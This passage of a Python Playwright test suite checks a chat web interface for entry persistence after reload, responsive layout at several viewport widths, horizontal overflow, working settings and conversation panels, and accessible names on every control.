    expect(says).to_contain_text("“first” had to go")
    expect(chat.locator("#chat-entries li")).to_have_text([re.compile("third"), re.compile("second")])
    chat.reload()
    expect(chat.locator("#chat-entries li")).to_have_text([re.compile("third"), re.compile("second")])


@pytest.mark.parametrize("width", [400, 1280, 2560])
def test_every_control_has_a_name_and_fits(chat: Page, answers: Answers, width: int) -> None:
    chat.set_viewport_size({"width": width, "height": 800})
    row = "| " + " | ".join(["wide"] * 30) + " |"
    rule = "|" + "---|" * 30
    answers.text(f"{'long' * 200}\n\n```\n{'code' * 200}\n```\n\n{row}\n{rule}\n{row}\n\n{'x ' * 3000}")
    ask(chat, "many" * 200)
    title = chat.get_by_label("Title of the conversation")
    title.fill("renamed")
    title.press("Enter")
    if width < 1100:
        button(chat, "Conversations").click()
        expect(chat.get_by_role("button", name=re.compile(r"^renamed ?([01]\d|2[0-3]):\d\d$"))).to_be_visible()
        chat.keyboard.press("Escape")
        expect(chat.get_by_label("temperature")).to_be_hidden()
        button(chat, "Settings").click()
        expect(chat.get_by_role("dialog", name="Settings")).to_be_visible()
        expect(chat.get_by_label("temperature")).to_be_visible()
        chat.keyboard.press("Escape")
        expect(chat.get_by_label("temperature")).to_be_hidden()
    over = chat.evaluate(
        """() => [document.documentElement, document.getElementById("chat-log")].map(each =>
            each.scrollWidth - each.clientWidth)"""
    )
    assert over == [0, 0]
    nameless = chat.locator("#chat").evaluate(
        """chat => [...chat.querySelectorAll("input, textarea, select, button")].filter(each =>
            !each.labels?.length && !each.getAttribute("aria-label") && !each.textContent.trim()
        ).map(each => each.outerHTML)"""
    )
    assert nameless == []
    box = chat.get_by_label("Message", exact=True).bounding_box()
    assert box is not None
    assert box["y"] + box["height"] <= 800
